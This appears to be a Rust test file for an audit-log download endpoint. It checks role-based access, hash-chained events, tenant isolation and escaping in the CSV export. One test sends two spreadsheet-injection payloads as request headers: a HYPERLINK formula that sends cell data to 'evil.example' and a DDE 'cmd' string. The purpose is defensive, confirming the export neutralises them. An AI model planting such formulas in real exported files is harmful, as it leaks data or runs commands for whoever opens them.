//! The audit log as a file.
//!
//! Owns: who may download it, and its contents. Invariant: the file contains the same events as the log, and each
//! event's hash follows from that of the event before it.

mod cut;

use axum::{body::Body, http::Request};
use entity::auth::OrgRole;
use serde_json::{Value, json};
use tests::{Actor, Answer, Database, Gateway, Kind, World, world::Side};

/// Makes more changes than the number of events in one batch.
async fn fill(gateway: &Gateway) {
    for number in 0..520 {
        let text = format!("mutation {{ dsoCreate(input: {{ name: \"Dso {number}\" }}) {{ dso {{ id }} }} }}");
        let _done = gateway.ask(Actor::Admin, &text, Value::Null).await.clean();
    }
}

async fn export(gateway: &Gateway, actor: Actor, query: &str) -> Answer {
    gateway.send(asked(actor, query)).await
}

fn asked(actor: Actor, query: &str) -> Request<Body> {
    let mut request = Request::get(format!("/audit-log{query}"));
    if let Some(token) = actor.token() {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    if let Some(organization) = actor.organization() {
        request = request.header("x-organization-id", organization);
    }
    request.body(Body::empty()).unwrap()
}

#[tokio::test]
async fn only_admins_can_download_the_audit_log() {
    for kind in Kind::ALL {
        let database = Database::world(kind).await;
        let gateway = Gateway::over(&database).await;
        fill(&gateway).await;
        for (actor, status, code) in [
            (Actor::Anonymous, 401, "UNAUTHENTICATED"),
            (Actor::Stranger, 404, "NOT_FOUND"),
            (Actor::Removed, 404, "NOT_FOUND"),
            (Actor::Outsider, 404, "NOT_FOUND"),
            (Actor::DsoAdmin, 403, "FORBIDDEN"),
            (Actor::Viewer, 403, "FORBIDDEN"),
        ] {
            let answer = export(&gateway, actor, "").await;
            assert_eq!((answer.status.as_u16(), answer.codes()), (status, vec![code]), "{kind:?} {actor:?}");
        }
        let answer = export(&gateway, Actor::Owner, "?format=xml").await;
        assert_eq!((answer.status.as_u16(), answer.codes()), (400, vec!["BAD_USER_INPUT"]), "{kind:?}");

        for role in [OrgRole::Admin, OrgRole::Owner] {
            let actor = if role == OrgRole::Admin { Actor::Admin } else { Actor::Owner };
            let lines = export(&gateway, actor, "").await.text;
            let events: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
            // The last event records who has downloaded the file.
            let downloads = if role == OrgRole::Admin { 1 } else { 2 };
            assert_eq!(events.len(), 522 + downloads, "{kind:?}");
            let last = &events[events.len() - 1];
            assert_eq!(last["action"], "AUDIT_LOG_EXPORT", "{kind:?}: {last}");
            assert_eq!(last["after"], json!({ "format": "jsonl" }), "{kind:?}: {last}");
            assert!(last["actor_user_id"].as_str().is_some_and(|id| id.starts_with("usr_")), "{kind:?}: {last}");
            for (place, event) in events.iter().enumerate() {
                assert_eq!(event["sequence"], place + 1, "{kind:?} {event}");
                assert_eq!(event["hash"].as_str().map(str::len), Some(64), "{kind:?} {event}");
            }
            assert!(!lines.contains(tests::CANARY), "{kind:?}: a string of B is in A's log");
        }
        let csv = export(&gateway, Actor::Owner, "?format=csv").await;
        assert_eq!(csv.headers["content-type"], "text/csv; charset=utf-8", "{kind:?}");
        assert_eq!(csv.text.lines().count(), 526, "{kind:?}: a head line and the events");
        assert_eq!(csv.text.matches("sequence,id,at,").count(), 1, "{kind:?}: one head line");

        let slug = World::text(Side::A, tests::world::SLUG_A);
        let verdict = gateway.db.audit_log_reader(&slug).await.unwrap().unwrap().verify().await.unwrap();
        assert_eq!((verdict.sound, verdict.broken), (525, None), "{kind:?}");
    }
}

/// An outsider can also cause a line in this log, with text of their own in it.
#[tokio::test]
async fn nothing_in_the_file_is_a_formula_to_a_spreadsheet() {
    for kind in Kind::ALL {
        let database = Database::world(kind).await;
        let gateway = Gateway::over(&database).await;
        let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"open\")";
        let headers = [("user-agent", formula), ("x-request-id", "=cmd|'/C'!A0")];
        let asks = "mutation { joinRequestCreate(input: { organizationSlug: \"aurora-a\" }) { userErrors { code } } }";
        let _asked = gateway.ask_with(Actor::Outsider.token().as_deref(), &headers, asks, Value::Null).await;
        let csv = export(&gateway, Actor::Owner, "?format=csv").await.text;
        assert!(csv.contains("evil.example"), "{kind:?}: the control: nothing was logged: {csv}");
        assert!(csv.contains("\"'=HYPERLINK(") && !csv.contains(",\"=") && !csv.contains(",="), "{kind:?}: {csv}");
        assert!(!csv.contains("cmd|"), "{kind:?}: a request id is a name and nothing else: {csv}");
        // The format that is verified against the hashes has the text unchanged.
        let lines = export(&gateway, Actor::Owner, "").await.text;
        assert!(lines.contains("\"agent\":\"=HYPERLINK("), "{kind:?}: {lines}");
    }
}
